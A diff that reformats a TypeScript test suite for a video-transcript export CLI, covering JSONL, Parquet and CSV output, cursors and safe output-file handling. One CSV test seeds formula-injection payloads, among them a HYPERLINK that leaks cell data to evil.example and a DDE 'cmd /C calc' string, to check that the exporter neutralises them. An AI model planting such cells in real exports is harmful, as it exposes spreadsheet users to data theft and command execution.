@@ -6,7 +6,18 @@
  * videos, the next run writes exactly those 8 records, and the one after none.
  */
 import { spawnSync } from 'node:child_process';
-import { chmodSync, lstatSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
+import {
+  chmodSync,
+  lstatSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  readlinkSync,
+  rmSync,
+  statSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs';
 import { createServer, type Server } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -33,7 +44,8 @@ async function ok(args: string[]): Promise<CliResult> {
   return r;
 }
 
-const backfill = (id: number, ...more: string[]) => ok(['backfill', '--source', String(id), '--timeout', '45s', ...more]);
+const backfill = (id: number, ...more: string[]) =>
+  ok(['backfill', '--source', String(id), '--timeout', '45s', ...more]);
 
 /** A channel as a source asking one language that every video of it has (a fallback delivery is another test's subject). */
 async function channelSource(index: number, ...more: string[]) {
@@ -45,15 +57,22 @@ async function channelSource(index: number, ...more: string[]) {
     if (!langs.includes(lang)) h.sim.catalog.editVideo(id, { transcriptLanguages: [lang, ...langs] });
   }
   await ok(['sources', 'add', 'channel', ch.handle, '--limit', '50', '--lang', lang, ...more]);
-  const [row] = await h.database.sql<{ id: number }[]>`select id from sources where ref = ${ch.handle} order by id desc limit 1`;
+  const [row] = await h.database.sql<
+    { id: number }[]
+  >`select id from sources where ref = ${ch.handle} order by id desc limit 1`;
   return { sourceId: row!.id, lang, ids, channelId: ch.id };
 }
 
 beforeAll(async () => {
   h = await createPipelineHarness('export', {
     catalog: {
-      channels: 2, channelSizes: [10, 6], shortsPerChannel: 0, livesPerChannel: 0,
-      noTranscriptShare: 0, privateShare: 0, goneShare: 0,
+      channels: 2,
+      channelSizes: [10, 6],
+      shortsPerChannel: 0,
+      livesPerChannel: 0,
+      noTranscriptShare: 0,
+      privateShare: 0,
+      goneShare: 0,
     },
   });
   h.startWorkers(['poller', 'sink']);
@@ -94,7 +113,10 @@ interface Truth {
 async function truth(where?: { sourceId?: number }): Promise<Truth[]> {
   const { sql } = h.database;
   const iso = (c: string) => sql.unsafe(`to_char(${c} at time zone 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.US"Z"')`);
-  const source = where?.sourceId !== undefined ? sql`and t.video_id in (select video_id from source_videos where source_id = ${where.sourceId})` : sql``;
+  const source =
+    where?.sourceId !== undefined
+      ? sql`and t.video_id in (select video_id from source_videos where source_id = ${where.sourceId})`
+      : sql``;
   return sql<Truth[]>`
     select t.video_id, v.title, v.description, v.duration_s, v.channel_id, v.channel_name, v.tags, v.thumbnail,
       ${iso('v.upload_date')} as upload_date, v.view_count::float8 as view_count, v.like_count::float8 as like_count,
@@ -109,7 +131,12 @@ const withoutChunks = (rows: Truth[]) => rows.map(({ chunks: _c, ...rest }) => r
 /** A cell a spreadsheet would run as a formula (OWASP, CSV injection): what the CSV writer prefixes with `'`. */
 const FORMULA_LEAD = /^[=+\-@\t\r]/;
 const neutralised = <T extends Record<string, unknown>>(rows: T[]): T[] =>
-  rows.map((r) => Object.fromEntries(Object.entries(r).map(([k, v]) => [k, typeof v === 'string' && FORMULA_LEAD.test(v) ? `'${v}` : v])) as T);
+  rows.map(
+    (r) =>
+      Object.fromEntries(
+        Object.entries(r).map(([k, v]) => [k, typeof v === 'string' && FORMULA_LEAD.test(v) ? `'${v}` : v]),
+      ) as T,
+  );
 
 /** A CSV export read back: nulls as null, numbers as numbers, arrays parsed. */
 function readCsv(path: string): Record<string, unknown>[] {
@@ -119,11 +146,18 @@ function readCsv(path: string): Record<string, unknown>[] {
     cast: (value, ctx) => (ctx.header ? value : ctx.quoting ? value : value === '' ? null : Number(value)),
   }) as Record<string, unknown>[];
   const arrays = ['tags', 'transcript_languages'];
-  return rows.map((row) => Object.fromEntries(Object.entries(row).map(([k, v]) => [k, arrays.includes(k) && v !== null ? JSON.parse(v as string) : v])));
+  return rows.map((row) =>
+    Object.fromEntries(
+      Object.entries(row).map(([k, v]) => [k, arrays.includes(k) && v !== null ? JSON.parse(v as string) : v]),
+    ),
+  );
 }
 
 const readJsonl = (path: string) =>
-  readFileSync(path, 'utf8').split('\n').filter((l) => l !== '').map((l) => JSON.parse(l) as Record<string, unknown>);
+  readFileSync(path, 'utf8')
+    .split('\n')
+    .filter((l) => l !== '')
+    .map((l) => JSON.parse(l) as Record<string, unknown>);
 
 async function duck<T>(query: string): Promise<T[]> {
   const db = await DuckDBInstance.create(':memory:');
@@ -142,7 +176,9 @@ describe('export', () => {
     expect(all.length).toBe(chunked.ids.length + plainText.ids.length);
     expect(all.some((r) => r.chunks === null)).toBe(true);
     expect(all.some((r) => r.chunks !== null && r.chunks.length > 1)).toBe(true);
-    expect(all.some((r) => r.thumbnail === null || r.like_count === null || r.view_count === null || r.upload_date === null)).toBe(true);
+    expect(
+      all.some((r) => r.thumbnail === null || r.like_count === null || r.view_count === null || r.upload_date === null),
+    ).toBe(true);
 
     const out = join(dir, 'all.jsonl');
     const r = await ok(['export', '--format', 'jsonl', '--out', out]);
@@ -153,9 +189,24 @@ describe('export', () => {
     expect(readJsonl(out)).toEqual(all);
 
     // stdout carries the data and nothing else; --source and --lang narrow it
-    const s = await ok(['export', '--format', 'jsonl', '--out', '-', '--source', String(plainText.sourceId), '--lang', plainText.lang]);
-    const lines = s.stdout.split('\n').filter((l) => l !== '').map((l) => JSON.parse(l) as Record<string, unknown>);
-    expect(lines).toEqual(withoutChunks(await truth({ sourceId: plainText.sourceId })).filter((t) => t.lang === plainText.lang));
+    const s = await ok([
+      'export',
+      '--format',
+      'jsonl',
+      '--out',
+      '-',
+      '--source',
+      String(plainText.sourceId),
+      '--lang',
+      plainText.lang,
+    ]);
+    const lines = s.stdout
+      .split('\n')
+      .filter((l) => l !== '')
+      .map((l) => JSON.parse(l) as Record<string, unknown>);
+    expect(lines).toEqual(
+      withoutChunks(await truth({ sourceId: plainText.sourceId })).filter((t) => t.lang === plainText.lang),
+    );
     expect(lines.length).toBe(plainText.ids.length);
   });
 
@@ -169,11 +220,20 @@ describe('export', () => {
   it("CSV: a cell a spreadsheet would run as a formula starts with ' (OWASP); --csv-raw-formulas writes it as stored", async () => {
     const { sql } = h.database;
     const [x, y] = chunked.ids;
-    const saved = await sql<{ id: string; title: string | null; description: string | null; channel_name: string | null }[]>`
+    const saved = await sql<
+      { id: string; title: string | null; description: string | null; channel_name: string | null }[]
+    >`
       select id, title, description, channel_name from videos where id = any(${[x!, y!]}::text[])`;
-    const [text] = await sql<{ text: string }[]>`select text from transcripts where video_id = ${x!} and lang = ${chunked.lang}`;
+    const [text] = await sql<
+      { text: string }[]
+    >`select text from transcripts where video_id = ${x!} and lang = ${chunked.lang}`;
     const cells = {
-      x: { title: '=HYPERLINK("http://evil.example/?"&A1,"open")', description: "@SUM(1+1)*cmd|' /C calc'!A0", channel_name: '+1+1', text: '-2+3' },
+      x: {
+        title: '=HYPERLINK("http://evil.example/?"&A1,"open")',
+        description: "@SUM(1+1)*cmd|' /C calc'!A0",
+        channel_name: '+1+1',
+        text: '-2+3',
+      },
       y: { title: '\t=1+1', description: '\r=2+2', channel_name: 'a=b, not at the start' },
     };
     await sql`update videos set title = ${cells.x.title}, description = ${cells.x.description}, channel_name = ${cells.x.channel_name} where id = ${x!}`;
@@ -185,22 +245,38 @@ describe('export', () => {
       await ok(['export', '--format', 'csv', '--out', out]);
       const back = readCsv(out);
       expect(back).toEqual(neutralised(all));
-      const rowOf = (rows: Record<string, unknown>[], id: string) => rows.find((r) => r.video_id === id && r.lang === chunked.lang)!;
-      expect(rowOf(back, x!)).toMatchObject({ title: `'${cells.x.title}`, description: `'${cells.x.description}`, channel_name: `'${cells.x.channel_name}`, text: `'${cells.x.text}` });
-      expect(rowOf(back, y!)).toMatchObject({ title: `'${cells.y.title}`, description: `'${cells.y.description}`, channel_name: cells.y.channel_name });
+      const rowOf = (rows: Record<string, unknown>[], id: string) =>
+        rows.find((r) => r.video_id === id && r.lang === chunked.lang)!;
+      expect(rowOf(back, x!)).toMatchObject({
+        title: `'${cells.x.title}`,
+        description: `'${cells.x.description}`,
+        channel_name: `'${cells.x.channel_name}`,
+        text: `'${cells.x.text}`,
+      });
+      expect(rowOf(back, y!)).toMatchObject({
+        title: `'${cells.y.title}`,
+        description: `'${cells.y.description}`,
+        channel_name: cells.y.channel_name,
+      });
 
       await ok(['export', '--format', 'csv', '--out', out, '--csv-raw-formulas']);
       const raw = readCsv(out);
       expect(raw).toEqual(all);
       expect(rowOf(raw, x!)).toMatchObject(cells.x);
 
-      expectCleanError(await cli(['export', '--format', 'jsonl', '--out', out, '--csv-raw-formulas']), 2, '--csv-raw-formulas', 'csv');
+      expectCleanError(
+        await cli(['export', '--format', 'jsonl', '--out', out, '--csv-raw-formulas']),
+        2,
+        '--csv-raw-formulas',
+        'csv',
+      );
       const help = await ok(['export', '--help']);
       expect(help.stdout).toContain('--csv-raw-formulas');
       expect(help.stdout).toMatch(/formula/i);
       expect(help.stdout).toContain("'");
     } finally {
-      for (const v of saved) await sql`update videos set title = ${v.title}, description = ${v.description}, channel_name = ${v.channel_name} where id = ${v.id}`;
+      for (const v of saved)
+        await sql`update videos set title = ${v.title}, description = ${v.description}, channel_name = ${v.channel_name} where id = ${v.id}`;
       await sql`update transcripts set text = ${text!.text} where video_id = ${x!} and lang = ${chunked.lang}`;
     }
   });
@@ -213,18 +289,30 @@ describe('export', () => {
       strftime(upload_date, '%Y-%m-%dT%H:%M:%S.%fZ') as upload_date, view_count::double as view_count, like_count::double as like_count,
       transcript_languages, lang, text, content_sha256, batch, strftime(delivered_at, '%Y-%m-%dT%H:%M:%S.%fZ') as delivered_at`;
     type Chunk = { text: string; offset: number; duration: number; lang: string | null };
-    const rows = await duck<Omit<Truth, 'chunks'> & { chunks: Chunk[] | null }>(`select ${cols}, chunks from read_parquet('${out}') order by video_id, lang`);
+    const rows = await duck<Omit<Truth, 'chunks'> & { chunks: Chunk[] | null }>(
+      `select ${cols}, chunks from read_parquet('${out}') order by video_id, lang`,
+    );
     // a chunk without a lang reads back with lang null (a struct has every field)
-    const stored = all.map((t) => ({ ...t, chunks: t.chunks === null ? null : t.chunks.map((c) => ({ lang: null, ...c })) }));
+    const stored = all.map((t) => ({
+      ...t,
+      chunks: t.chunks === null ? null : t.chunks.map((c) => ({ lang: null, ...c })),
+    }));
     expect(rows).toEqual(stored);
-    const types = await duck<{ column_name: string; column_type: string }>(`describe select * from read_parquet('${out}')`);
+    const types = await duck<{ column_name: string; column_type: string }>(
+      `describe select * from read_parquet('${out}')`,
+    );
     expect(Object.fromEntries(types.map((t) => [t.column_name, t.column_type]))).toMatchObject({
-      tags: 'VARCHAR[]', view_count: 'BIGINT', upload_date: 'TIMESTAMP', duration_s: 'DOUBLE',
+      tags: 'VARCHAR[]',
+      view_count: 'BIGINT',
+      upload_date: 'TIMESTAMP',
+      duration_s: 'DOUBLE',
       chunks: 'STRUCT("text" VARCHAR, "offset" DOUBLE, duration DOUBLE, lang VARCHAR)[]',
     });
 
     await ok(['export', '--format', 'parquet', '--out', out]);
-    expect(await duck(`select ${cols} from read_parquet('${out}') order by video_id, lang`)).toEqual(withoutChunks(all));
+    expect(await duck(`select ${cols} from read_parquet('${out}') order by video_id, lang`)).toEqual(
+      withoutChunks(all),
+    );
   });
 
   it('--cursor writes only what changed since its last run: 3 changed transcripts and 5 new videos, then nothing', async () => {
@@ -234,7 +322,9 @@ describe('export', () => {
     expect(readJsonl(out).length).toBe((await truth()).length);
     expect(first.stdout).toContain('cursor c1 created');
     const [maxEvent] = await sql<{ id: number }[]>`select max(id)::float8 as id from events`;
-    const [cursor] = await sql<{ id: number; records: number }[]>`select last_event_id::float8 as id, records::int from export_cursors where name = 'c1'`;
+    const [cursor] = await sql<
+      { id: number; records: number }[]
+    >`select last_event_id::float8 as id, records::int from export_cursors where name = 'c1'`;
     expect(cursor).toEqual({ id: maxEvent!.id, records: (await truth()).length });
     // prune keeps what the cursor will read next (no webhook endpoint here holds any)
     expect(await oldestNeededEventId(sql)).toBe(maxEvent!.id + 1);
@@ -255,14 +345,18 @@ describe('export', () => {
     // every event past its retention: prune deletes those before the cursor, keeps those after
     await sql`update events set occurred_at = now() - interval '400 days'`;
     await ok(['prune']);
-    const [left] = await sql<{ min: number; n: number }[]>`select min(id)::float8 as min, count(*)::int as n from events`;
+    const [left] = await sql<
+      { min: number; n: number }[]
+    >`select min(id)::float8 as min, count(*)::int as n from events`;
     expect(left).toEqual({ min: cursor!.id + 1, n: expect.any(Number) });
     expect(left!.n).toBeGreaterThan(0);
 
     await ok(['export', '--format', 'jsonl', '--out', out, '--cursor', 'c1', '--chunks']);
     const second = readJsonl(out);
     const expected = (await truth()).filter((t) => [...changed, ...fresh].includes(t.video_id));
-    expect(second.map((r) => [r.video_id, r.lang]).sort()).toEqual([...changed, ...fresh].map((id) => [id, chunked.lang]).sort());
+    expect(second.map((r) => [r.video_id, r.lang]).sort()).toEqual(
+      [...changed, ...fresh].map((id) => [id, chunked.lang]).sort(),
+    );
     expect(second).toEqual(expected);
 
     const third = await ok(['export', '--format', 'jsonl', '--out', out, '--cursor', 'c1']);
@@ -271,7 +365,9 @@ describe('export', () => {
 
     // another name starts from the beginning
     await ok(['export', '--format', 'csv', '--out', join(dir, 'c2.csv'), '--cursor', 'c2']);
-    expect((parseCsv(readFileSync(join(dir, 'c2.csv')), { columns: true }) as unknown[]).length).toBe((await truth()).length);
+    expect((parseCsv(readFileSync(join(dir, 'c2.csv')), { columns: true }) as unknown[]).length).toBe(
+      (await truth()).length,
+    );
   }, 90_000);
 
   it('--since writes only records changed at or after the time', async () => {
@@ -281,7 +377,10 @@ describe('export', () => {
       select to_char(max(greatest(t.updated_at, v.updated_at)) at time zone 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.US"Z"') as t
       from transcripts t left join videos v on v.id = t.video_id`;
     const r = await ok(['export', '--format', 'jsonl', '--out', '-', '--since', mid!.t]);
-    const got = r.stdout.split('\n').filter(Boolean).map((l) => JSON.parse(l) as { video_id: string; lang: string });
+    const got = r.stdout
+      .split('\n')
+      .filter(Boolean)
+      .map((l) => JSON.parse(l) as { video_id: string; lang: string });
     const want = await sql<{ video_id: string; lang: string }[]>`
       select t.video_id, t.lang from transcripts t left join videos v on v.id = t.video_id
       where t.updated_at >= ${mid!.t}::text::timestamptz or v.updated_at >= ${mid!.t}::text::timestamptz order by 1, 2`;
@@ -292,13 +391,35 @@ describe('export', () => {
 
   it('refuses bad usage with exit 2, naming the option, the value and what is valid; a failed run moves no cursor', async () => {
     const out = join(dir, 'x.jsonl');
-    expectCleanError(await cli(['export', '--format', 'xml', '--out', out]), 2, '--format', 'xml', 'jsonl, parquet, csv');
+    expectCleanError(
+      await cli(['export', '--format', 'xml', '--out', out]),
+      2,
+      '--format',
+      'xml',
+      'jsonl, parquet, csv',
+    );
     expectCleanError(await cli(['export', '--format', 'jsonl']), 2, '--out');
-    expectCleanError(await cli(['export', '--format', 'jsonl', '--out', out, '--since', 'notadate']), 2, '--since', 'notadate', 'ISO 8601');
+    expectCleanError(
+      await cli(['export', '--format', 'jsonl', '--out', out, '--since', 'notadate']),
+      2,
+      '--since',
+      'notadate',
+      'ISO 8601',
+    );
     expectCleanError(await cli(['export', '--format', 'csv', '--out', out, '--chunks']), 2, '--chunks', 'csv');
-    expectCleanError(await cli(['export', '--format', 'jsonl', '--out', out, '--cursor', 'c9', '--since', '2024-01-01']), 2, '--cursor', '--since');
+    expectCleanError(
+      await cli(['export', '--format', 'jsonl', '--out', out, '--cursor', 'c9', '--since', '2024-01-01']),
+      2,
+      '--cursor',
+      '--since',
+    );
     expectCleanError(await cli(['export', '--format', 'jsonl', '--out', out, '--source', '9999']), 2, 'source 9999');
-    expectCleanError(await cli(['export', '--format', 'jsonl', '--out', join(dir, 'no', 'such', 'dir.jsonl'), '--cursor', 'c9']), 2, '--out', 'cannot write');
+    expectCleanError(
+      await cli(['export', '--format', 'jsonl', '--out', join(dir, 'no', 'such', 'dir.jsonl'), '--cursor', 'c9']),
+      2,
+      '--out',
+      'cannot write',
+    );
     expectCleanError(await cli(['export', '--format', 'jsonl', '--out', dir]), 2, '--out', 'directory');
     const [c9] = await h.database.sql`select 1 from export_cursors where name = 'c9'`;
     expect(c9).toBeUndefined();
@@ -324,7 +445,12 @@ describe('the output file (issue #27)', () => {
 
     const dangling = join(d, 'dangling.jsonl');
     symlinkSync(join(d, 'not-yet.txt'), dangling);
-    expectCleanError(await cli(['export', '--format', 'csv', '--out', dangling]), 2, `--out ${dangling}`, 'symbolic link');
+    expectCleanError(
+      await cli(['export', '--format', 'csv', '--out', dangling]),
+      2,
+      `--out ${dangling}`,
+      'symbolic link',
+    );
     expect(names(d)).toEqual(['dangling.jsonl', 'export.jsonl', 'precious.txt']);
   });
 
@@ -339,7 +465,11 @@ describe('the output file (issue #27)', () => {
     const device = join(d, 'null');
     const madeDevice = spawnSync('mknod', [device, 'c', '1', '3']).status === 0;
     try {
-      const cases: [string, string][] = [[fifo, 'a FIFO'], [socketPath, 'a socket'], ...(madeDevice ? [[device, 'a character device'] as [string, string]] : [])];
+      const cases: [string, string][] = [
+        [fifo, 'a FIFO'],
+        [socketPath, 'a socket'],
+        ...(madeDevice ? [[device, 'a character device'] as [string, string]] : []),
+      ];
       for (const [path, what] of cases) {
         // a process that opened the FIFO would wait for a reader: the timeout would kill it (exit null)
         const r = await runCli(['export', '--format', 'jsonl', '--out', path], h.env, 30_000);
@@ -384,10 +514,14 @@ describe('the output file (issue #27)', () => {
       await locker`lock table transcripts in access exclusive mode`;
       const p = startCli(['export', '--format', 'jsonl', '--out', out], h.env);
       try {
-        const temp = await waitUntil(() => {
-          if (!p.running()) throw new Error(`export ended before its file was open:\n${p.stderr()}`);
-          return names(d).find((n) => n !== 'corpus.jsonl');
-        }, 30_000, 'the temporary file');
+        const temp = await waitUntil(
+          () => {
+            if (!p.running()) throw new Error(`export ended before its file was open:\n${p.stderr()}`);
+            return names(d).find((n) => n !== 'corpus.jsonl');
+          },
+          30_000,
+          'the temporary file',
+        );
         temps.push(temp);
         // beside the output, hidden, named by chance: not `.corpus.jsonl.<pid>.partial`
         expect(temp).toMatch(/^\.corpus\.jsonl\.[0-9a-f]{16,}\.partial$/);
